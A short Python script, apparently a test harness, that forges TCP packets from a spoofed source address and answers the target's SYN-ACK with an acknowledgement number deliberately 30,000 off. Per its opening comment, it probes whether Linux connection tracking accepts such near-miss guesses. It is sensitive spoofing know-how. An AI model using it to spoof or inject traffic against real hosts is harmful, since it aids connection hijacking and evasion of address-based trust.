# A SYN from an address of somebody else's, whose packets come here, and an ACK for a number 30,000 below the right one: as if one of 65,000 guesses were near. source, address, port. The kernel's conntrack
# takes it for right, the host does not. Begins when it is told a line.
import socket, struct, sys

source, to, port = socket.inet_aton(sys.argv[1]), sys.argv[2], int(sys.argv[3])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
target = socket.inet_aton(to)
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
pseudo = source + target + struct.pack("!HH", 6, 20)


def send(seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", 4242, port, seq, ack, 0x50, flags, 1024, 0, 0)
    total = sum(struct.unpack("!16H", pseudo + tcp))
    total = (total >> 16) + (total & 0xFFFF)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    out.sendto(ip + tcp[:16] + checksum.to_bytes(2, "big") + tcp[18:], (to, 0))


print("ready", flush=True)
sys.stdin.readline()
send(1000, 0, 2)
while True:
    packet = heard.recv(65536)
    if packet[9] == 6 and packet[16:20] == source and packet[33] == 0x12:
        break
send(1001, (struct.unpack("!I", packet[24:28])[0] + 1 - 30000) % (1 << 32), 16)
print("sent", flush=True)
